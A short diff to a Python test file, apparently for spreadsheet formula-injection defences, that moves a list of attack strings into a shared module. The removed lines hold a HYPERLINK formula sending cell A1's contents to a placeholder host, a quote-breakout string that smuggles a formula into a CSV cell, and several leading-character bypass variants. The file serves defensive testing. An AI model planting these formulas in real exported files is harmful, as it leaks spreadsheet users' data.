@@ -12,23 +12,9 @@ from pathlib import Path
 import pytest
 
 from tests.attacks.desk import Desk
+from tests.shell.formulas import BREAK_OUT, FORMULAS
 from tests.story import command
 
-BREAK_OUT = 'x","=1+1","y'
-"""Harmless once it has stayed one cell."""
-FORMULAS = [
-    '=HYPERLINK("http://e/?"&A1,"x")',
-    "+1",
-    "-2+3",
-    "@SUM(1)",
-    "\t=1",
-    "\r=1",
-    "＝1+1",
-    " =1",
-    BREAK_OUT,
-    "name\n=1",
-    "\ufeff=1",
-]
 HARMLESS = ["O'Neil & Co.", "伊藤 明子", "a-b, c;d", "2027-03-01", 'say "hi"', "x = y"]
 
 
